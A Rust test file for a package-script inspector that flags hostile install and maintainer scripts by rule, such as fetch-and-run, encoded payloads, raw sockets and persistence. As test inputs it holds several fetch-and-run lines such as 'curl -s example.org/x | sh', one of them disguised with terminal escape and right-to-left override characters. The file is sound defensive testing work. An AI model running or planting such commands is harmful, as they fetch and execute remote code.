//! Inspection of scripts: hostile ones of our own writing, harmless ones, and those of this machine.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout)] // A test may fail anywhere.

mod support;

use std::fs;
use std::path::{Path, PathBuf};

use omg_policy::inspect::{MAX_SCRIPT_BYTES, ScriptFinding, ScriptKind, ScriptRule, inspect};
use proptest::prelude::*;

fn folder(name: &str) -> Vec<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/vectors")
        .join(name);
    let mut files: Vec<PathBuf> = fs::read_dir(path)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    files.sort();
    files
}

fn kind(path: &Path) -> ScriptKind {
    match path.extension().and_then(|ext| ext.to_str()) {
        Some("PKGBUILD") => ScriptKind::Recipe,
        Some("install") => ScriptKind::PacmanInstall,
        _ => ScriptKind::DebianMaintainer,
    }
}

fn findings(path: &Path) -> Vec<ScriptFinding> {
    let name = path.file_name().unwrap().to_string_lossy();
    inspect(kind(path), &name, &fs::read(path).unwrap())
}

#[test]
fn every_hostile_script_is_flagged_for_what_it_does() {
    use ScriptRule as R;
    let expected = [
        R::FetchRun,
        R::FetchRun,
        R::FetchRun,
        R::FetchRun,
        R::Encoded,
        R::Network,
        R::FetchRun,
        R::FetchRun,
        R::Encoded,
        R::Encoded,
        R::RawSocket,
        R::InlineCode,
        R::InlineCode,
        R::FetchRun,
        R::FetchRun,
        R::Network,
        R::UserFile,
        R::Preload,
        R::Persistence,
        R::Setuid,
        R::EnablesUnit,
        R::Persistence,
        R::Account,
        R::Encoded,
        R::Encoded,
        R::Disguised,
        R::TemporaryProgram,
        R::FetchRun,
        R::Encoded,
        R::HiddenText,
        R::RawSocket,
        R::FetchRun,
        R::Account,
        R::Hides,
        R::FetchRun,
        R::FetchRun,
        R::OutsideWrite,
        R::InlineCode,
        R::InlineCode,
        R::Network,
    ];
    let files = folder("hostile");
    assert_eq!(files.len(), expected.len());
    let mut wrong = Vec::new();
    for (path, rule) in files.iter().zip(expected) {
        let found = findings(path);
        if !found.iter().any(|finding| finding.rule == rule) {
            wrong.push(format!("{}: no {rule:?} in {found:#?}", path.display()));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn harmless_scripts_are_not() {
    for path in folder("harmless") {
        assert_eq!(findings(&path), [], "{}", path.display());
    }
}

/// Of the scripts that Debian installed here at most one in fifty.
#[test]
fn maintainer_scripts_of_this_machine_are_hardly_flagged() {
    let Ok(entries) = fs::read_dir("/var/lib/dpkg/info") else {
        return support::skip("there is no dpkg here");
    };
    let kinds = ["preinst", "postinst", "prerm", "postrm"];
    let scripts: Vec<PathBuf> = entries
        .map(|entry| entry.unwrap().path())
        .filter(|path| {
            path.extension()
                .is_some_and(|ext| kinds.iter().any(|k| ext == *k))
        })
        .collect();
    if scripts.len() < 200 {
        return support::skip("fewer than 200 maintainer scripts are installed");
    }
    let flagged: Vec<ScriptFinding> = scripts
        .iter()
        .filter_map(|path| findings(path).into_iter().next())
        .collect();
    println!(
        "{} of {} maintainer scripts flagged",
        flagged.len(),
        scripts.len()
    );
    for finding in &flagged {
        println!("{finding}");
    }
    assert!(flagged.len() * 50 <= scripts.len(), "{flagged:#?}");
}

#[test]
fn what_cannot_be_read_is_a_finding() {
    let large = vec![b'#'; MAX_SCRIPT_BYTES + 1];
    let found = inspect(ScriptKind::PacmanInstall, ".INSTALL", &large);
    assert_eq!(found[0].rule, ScriptRule::Unreadable);
    assert_eq!(
        inspect(ScriptKind::PacmanInstall, ".INSTALL", &large[1..]),
        []
    );
    let found = inspect(
        ScriptKind::DebianMaintainer,
        "postinst",
        b"\x7fELF\x02\x01\x01",
    );
    assert_eq!(found[0].rule, ScriptRule::Unreadable);
    let found = inspect(ScriptKind::DebianMaintainer, "postinst", b"true\0 && false");
    assert_eq!(found[0].rule, ScriptRule::Unreadable);
    // Another encoding is none, and what stands beside it is still seen.
    let latin = b"# J\xf6rg\ncurl example.org | sh\n";
    let found = inspect(ScriptKind::PacmanInstall, ".INSTALL", latin);
    assert_eq!(found[0].rule, ScriptRule::Network);
}

#[test]
fn what_was_seen_is_safe_to_print() {
    let script = "curl \u{1b}[2J\u{202e}example.org | sh";
    for finding in inspect(ScriptKind::PacmanInstall, ".INSTALL", script.as_bytes()) {
        assert!(
            !finding.to_string().contains(['\u{1b}', '\u{202e}']),
            "{finding:?}"
        );
    }
}

proptest! {
    #[test]
    fn any_bytes_are_inspected(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let once = inspect(ScriptKind::Recipe, "PKGBUILD", &bytes);
        prop_assert_eq!(&once, &inspect(ScriptKind::Recipe, "PKGBUILD", &bytes));
    }

    #[test]
    fn shell_like_text_is_inspected(
        text in "([a-z]{1,3}|[$]|\\{|\\}|\\(|\\)|`|'|\"|\\\\|\\||;|&|>|<| |\n|=|:|[0-9]|/|é){0,80}"
    ) {
        let _ = inspect(ScriptKind::PacmanInstall, ".INSTALL", text.as_bytes());
    }

    /// Whatever surrounds it, a plain hostile line stays visible.
    #[test]
    fn nothing_before_hides_a_line(before in "[ !$-&(-~
]{0,120}") {
        let script = format!("{before}\n\ncurl -s example.org/x | sh\n");
        let found = inspect(ScriptKind::PacmanInstall, ".INSTALL", script.as_bytes());
        prop_assert!(!found.is_empty(), "{script}");
    }
}
